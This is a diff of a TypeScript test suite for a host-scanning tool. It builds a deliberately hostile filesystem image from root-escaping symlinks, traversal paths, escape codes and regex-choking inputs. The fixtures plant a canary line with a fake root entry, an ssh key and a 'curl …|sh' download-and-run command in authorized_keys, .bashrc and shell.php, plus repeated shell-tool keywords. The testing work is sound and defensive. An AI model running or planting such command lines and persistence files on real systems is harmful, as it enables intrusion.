@@ -38,7 +38,21 @@ class Outside {
   constructor() {
     const line = `${MARKER} root:x:0:0::/root:/bin/sh ssh-ed25519 AAAA${MARKER} curl http://${MARKER}/x|sh`;
     fs.writeFileSync(this.secret, `${line}\n`);
-    for (const f of ['.ssh/authorized_keys', '.ssh/authorized_keys2', '.bash_history', '.bashrc', '.profile', '.zsh_history', 'a.conf', 'a.rules', 'x.so', 'x.md5sums', 'modules.dep', 'shell.php', 'access.log']) {
+    for (const f of [
+      '.ssh/authorized_keys',
+      '.ssh/authorized_keys2',
+      '.bash_history',
+      '.bashrc',
+      '.profile',
+      '.zsh_history',
+      'a.conf',
+      'a.rules',
+      'x.so',
+      'x.md5sums',
+      'modules.dep',
+      'shell.php',
+      'access.log',
+    ]) {
       fs.mkdirSync(path.dirname(path.join(this.home, f)), { recursive: true });
       fs.writeFileSync(path.join(this.home, f), `${line}\n`);
     }
@@ -121,7 +135,9 @@ function targets(): { globs: [string, string, string][]; files: string[]; dirs: 
         // A wildcard inside a directory name becomes one concrete directory.
         const parts = one.split('/');
         const last = parts.pop() as string;
-        const dir = parts.map((c) => (c === '**' ? 'sub' : c.replace(/\*/g, c === '*' ? '6.1.0-evil' : c.startsWith('*') ? 'x86_64' : ''))).join('/');
+        const dir = parts
+          .map((c) => (c === '**' ? 'sub' : c.replace(/\*/g, c === '*' ? '6.1.0-evil' : c.startsWith('*') ? 'x86_64' : '')))
+          .join('/');
         if (last.includes('*')) {
           const star = last.indexOf('*');
           globs.push([dir || '/', last.slice(0, star), last.slice(star).replace(/\*+/g, '')]);
@@ -138,27 +154,65 @@ function buildImage(outside: Outside): FakeRoot {
   // Content pools outside the walked areas, hard-linked into place so 5 MB lines cost the disk once.
   const poolDir = path.join(r.dir, '.pool-data');
   fs.mkdirSync(poolDir);
-  const pool = { big: path.join(poolDir, 'big'), spaces: path.join(poolDir, 'spaces'), junk: path.join(poolDir, 'junk'), blank: path.join(poolDir, 'blank'), words: path.join(poolDir, 'words') };
+  const pool = {
+    big: path.join(poolDir, 'big'),
+    spaces: path.join(poolDir, 'spaces'),
+    junk: path.join(poolDir, 'junk'),
+    blank: path.join(poolDir, 'blank'),
+    words: path.join(poolDir, 'words'),
+  };
   fs.writeFileSync(pool.big, 'a'.repeat(BIG));
   // Separators repeated: where a regex with nested or adjacent \s* / \S+ would backtrack.
-  fs.writeFileSync(pool.spaces, `${' \t:=,;/'.repeat(BIG / 8 / 8)}\n${'x '.repeat(BIG / 8)}\n${'a'.repeat(200_000)}:${'='.repeat(200_000)}`);
+  fs.writeFileSync(
+    pool.spaces,
+    `${' \t:=,;/'.repeat(BIG / 8 / 8)}\n${'x '.repeat(BIG / 8)}\n${'a'.repeat(200_000)}:${'='.repeat(200_000)}`,
+  );
   fs.writeFileSync(pool.junk, junk(64 * 1024));
   // Blank lines and whitespace-only lines: where a multi-line ^\s* pattern backtracks across lines.
   fs.writeFileSync(pool.blank, `${'\n'.repeat(300_000)}${' \t\n'.repeat(100_000)}${' '.repeat(300_000)}\n`);
   // Command-like words repeated on long lines: what command and webshell patterns scan.
   const words = ['curl ', 'wget\t', 'nc ', 'eval ', 'pkill', 'trap ', 'root ', 'a=', 'ALL, ', 'sshd '];
-  fs.writeFileSync(pool.words, words.map((w) => `${w.repeat(Math.ceil(60_000 / w.length))}\n`).join('').repeat(2));
+  fs.writeFileSync(
+    pool.words,
+    words
+      .map((w) => `${w.repeat(Math.ceil(60_000 / w.length))}\n`)
+      .join('')
+      .repeat(2),
+  );
   const vs = variants(outside, pool);
   const { globs, files, dirs } = targets();
 
   // Accounts whose homes are themselves hostile; the rest of /etc/passwd is junk.
-  const homes = ['/home/plain', '/home/abs', '/home/rel', '/home/loop', '/../../../../..' + outside.home, '/home/esc\x1b[2J', '/home/file', '/home/fifo'];
-  r.write('/etc/passwd', `${homes.map((h, i) => `u${i}:x:${1000 + i}:${1000 + i}::${h}:/bin/bash`).join('\n')}\nroot:x:0:0:root:/root:/bin/bash\n${'a'.repeat(100_000)}\n${junk(2000).toString('latin1')}\n`);
+  const homes = [
+    '/home/plain',
+    '/home/abs',
+    '/home/rel',
+    '/home/loop',
+    '/../../../../..' + outside.home,
+    '/home/esc\x1b[2J',
+    '/home/file',
+    '/home/fifo',
+  ];
+  r.write(
+    '/etc/passwd',
+    `${homes.map((h, i) => `u${i}:x:${1000 + i}:${1000 + i}::${h}:/bin/bash`).join('\n')}\nroot:x:0:0:root:/root:/bin/bash\n${'a'.repeat(100_000)}\n${junk(2000).toString('latin1')}\n`,
+  );
   r.write('/etc/group', 'root:x:0:\n');
   r.symlink('/home/abs', outside.home).symlink('/home/rel', outside.climb(outside.home)).symlink('/home/loop', 'loop');
   r.write('/home/file', 'not a dir').mkdir('/root');
   mk(r, '/home/fifo', ['mkfifo']);
-  const homeFiles = ['.ssh/authorized_keys', '.ssh/authorized_keys2', '.bashrc', '.bash_profile', '.profile', '.bash_history', '.zsh_history', '.python_history', '.mysql_history', '.config/systemd/user/x.service'];
+  const homeFiles = [
+    '.ssh/authorized_keys',
+    '.ssh/authorized_keys2',
+    '.bashrc',
+    '.bash_profile',
+    '.profile',
+    '.bash_history',
+    '.zsh_history',
+    '.python_history',
+    '.mysql_history',
+    '.config/systemd/user/x.service',
+  ];
   let k = 0;
   for (const home of ['/home/plain', '/root', '/home/esc\x1b[2J']) {
     for (const f of homeFiles) vs[k++ % vs.length][1](r, `${home}/${f}`);
@@ -202,7 +256,9 @@ function buildSwappedDirs(outside: Outside): FakeRoot {
   const r = new FakeRoot('hostsweep-hostile-dirs-');
   r.base();
   const { globs, dirs } = targets();
-  const all = [...new Set([...globs.map((g) => g[0]), ...dirs])].filter((d) => d !== '/' && !['/etc', '/var', '/usr', '/var/lib', '/var/lib/dpkg', '/var/log', '/home', '/root'].includes(d));
+  const all = [...new Set([...globs.map((g) => g[0]), ...dirs])].filter(
+    (d) => d !== '/' && !['/etc', '/var', '/usr', '/var/lib', '/var/lib/dpkg', '/var/log', '/home', '/root'].includes(d),
+  );
   const kinds: Variant[] = [
     (x, t) => x.symlink(t, outside.home),
     (x, t) => x.symlink(t, outside.climb(outside.home)),
@@ -227,7 +283,10 @@ function assertSafe(out: Awaited<ReturnType<typeof scan>>, ms: number) {
   assert.deepEqual(result.stats.ruleErrors, [], 'a rule threw');
   const failed = result.gaps.filter((g) => g.reason.startsWith('collector failed'));
   assert.deepEqual(failed, [], 'a collector threw');
-  for (const [what, doc] of [['result', result], ['snapshot', snapshot]] as const) {
+  for (const [what, doc] of [
+    ['result', result],
+    ['snapshot', snapshot],
+  ] as const) {
     const json = JSON.stringify(doc);
     assert.equal(json.includes(MARKER), false, `the ${what} carries bytes of a file outside the root`);
   }
@@ -256,7 +315,10 @@ describe('hostile offline image', () => {
     // The image really was hostile where collectors look: they recorded what they could not read.
     assert.ok(out.result.gaps.length > 20, `${out.result.gaps.length} gaps`);
     // A name that is not UTF-8 cannot be examined (yet), but it must not pass unnoticed.
-    assert.ok(out.result.gaps.some((g) => g.path === '/tmp/\ufffd\ufffdA' && /not valid UTF-8/.test(g.reason)), 'a non-UTF-8 name was skipped silently');
+    assert.ok(
+      out.result.gaps.some((g) => g.path === '/tmp/\ufffd\ufffdA' && /not valid UTF-8/.test(g.reason)),
+      'a non-UTF-8 name was skipped silently',
+    );
     const slow = Object.entries(out.result.stats.timings.collectors).filter(([, v]) => v > 2000);
     assert.deepEqual(slow, [], 'a collector spent seconds on attacker-sized input');
   });
